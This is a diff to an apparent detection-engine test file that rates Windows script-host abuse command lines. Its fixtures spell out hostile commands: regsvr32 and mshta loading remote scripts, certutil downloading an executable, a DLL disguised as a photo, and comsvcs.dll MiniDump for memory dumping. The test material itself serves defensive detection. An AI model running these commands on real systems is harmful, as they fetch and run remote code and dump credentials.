@@ -63,9 +63,9 @@ describe.each(ENGINES)("script-host-abuse: $name", (engine) => {
     ["regsvr32.exe", "regsvr32 /s /n /u /i:https://example.org/a.sct scrobj.dll", "medium"],
     ["mshta.exe", 'mshta javascript:a=GetObject("script:https://example.org/x").Exec()', "medium"],
     ["rundll32.exe", "rundll32.exe C:\\Users\\Public\\photo.jpg,Start", "high"],
-    ["rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 700 C:\\out.bin full", "medium"],
+    ["rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 700 C:\\out.bin full", "high"],
     ["certutil.exe", "certutil -urlcache -split -f http://example.org/a.txt a.exe", "medium"],
-  ])("%s: %s is %s by itself", async (image, command, expected) => {
+  ])("%s: %s is %s", async (image, command, expected) => {
     const { findings } = await run([ran(SYSTEM32 + image, command, `${SYSTEM32}cmd.exe`)]);
     expect(findings.map(({ severity }) => severity)).toEqual([expected]);
   });
